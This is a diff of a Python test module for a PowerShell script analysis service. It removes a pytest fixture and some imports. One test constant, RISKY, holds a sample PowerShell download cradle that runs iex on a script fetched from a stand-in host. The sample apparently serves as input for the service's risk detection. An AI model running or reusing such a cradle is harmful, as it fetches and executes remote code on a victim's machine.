@@ -2,10 +2,8 @@
 
 from __future__ import annotations
 
-from collections.abc import AsyncIterator
 from dataclasses import replace
 
-import pytest
 from sqlalchemy import func, select
 
 from psscript_graphql.config import Settings
@@ -19,14 +17,6 @@ from tests.support.graphql import viewer_of
 
 STAGES = ["parse", "rules", "metrics", "embed", "store"]
 RISKY = 'param([string]$Password)\n$c = New-Object Net.WebClient\niex $c.DownloadString("http://x.example/a.ps1")\n'
-
-
-@pytest.fixture
-async def jobs(clean_db: Database, settings: Settings) -> AsyncIterator[JobRuntime]:
-    runtime = JobRuntime.from_settings(settings)
-    await runtime.start_worker(clean_db, settings)
-    yield runtime
-    await runtime.close()
 
 
 async def _owner_and_script(db: Database, **script: object) -> tuple[models.User, models.Script]:
